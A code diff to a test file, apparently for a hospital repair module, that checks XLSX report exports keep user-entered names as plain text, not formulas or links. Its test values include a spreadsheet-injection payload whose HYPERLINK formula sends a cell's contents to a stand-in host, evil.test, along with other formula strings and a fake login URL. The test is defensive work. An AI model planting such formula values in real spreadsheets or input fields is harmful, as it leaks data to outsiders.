@@ -12,6 +12,8 @@ from .common import HospitalRepairCommon
 # write() would turn into a live formula or a link
 REPORTER = '=HYPERLINK("https://evil.test/?leak="&A2,"详情")'
 ZONE = "=1+1"
+# the fixture's floor 3F once the campus above it is named ZONE
+ZONE_PATH = f"{ZONE} / 门诊楼 / 3F"
 DEPARTMENT = "https://evil.test/登录"
 CATEGORY = "@SUM(1,1)"
 
@@ -25,12 +27,10 @@ class TestXlsxUserText(HospitalRepairCommon):
         super().setUpClass()
         cls.requester_a.name = REPORTER
         cls.dept_a.name = DEPARTMENT
-        # a root zone, so that its complete name starts with the formula
-        zone = cls.env["hospital.repair.zone"].create({"name": ZONE, "user_id": cls.worker.id})
-        category = cls.env["hospital.repair.category"].create({
-            "name": CATEGORY, "response_hours": 1, "completion_hours": 8,
-        })
-        cls.order = cls._submitted_order(zone_id=zone.id, category_id=category.id)
+        # the root zone, so that the complete name of every zone starts with the formula
+        cls.campus.name = ZONE
+        cls.cat_water.name = CATEGORY
+        cls.order = cls._submitted_order()
 
     def render(self, xmlid, records, user):
         """The XLSX of ``records`` as ``user`` gets it from the report action."""
@@ -56,7 +56,7 @@ class TestXlsxUserText(HospitalRepairCommon):
         row = rows[self.order.name]
         self.assertTextCell(row["Reporter"], REPORTER)
         self.assertTextCell(row["Department"], DEPARTMENT)
-        self.assertTextCell(row["Zone"], ZONE)
+        self.assertTextCell(row["Zone"], ZONE_PATH)
         self.assertTextCell(row["Category"], CATEGORY)
         # the draft, never reported, has an empty report time (not FALSE)
         self.assertIsNone(rows[draft.name]["Reported On"].value)
@@ -68,7 +68,7 @@ class TestXlsxUserText(HospitalRepairCommon):
             "date_from": today - timedelta(days=1), "date_to": today + timedelta(days=1),
         })
         book = self.render("hospital_repair.action_report_statistics_xlsx", appraisal, self.manager)
-        for sheet, value in (("By Zone", ZONE), ("By Department", DEPARTMENT), ("By Category", CATEGORY)):
+        for sheet, value in (("By Zone", ZONE_PATH), ("By Department", DEPARTMENT), ("By Category", CATEGORY)):
             labels = [row[0] for row in book[sheet].iter_rows(min_row=2)]
             [cell] = [cell for cell in labels if cell.value == value]
             self.assertTextCell(cell, value)
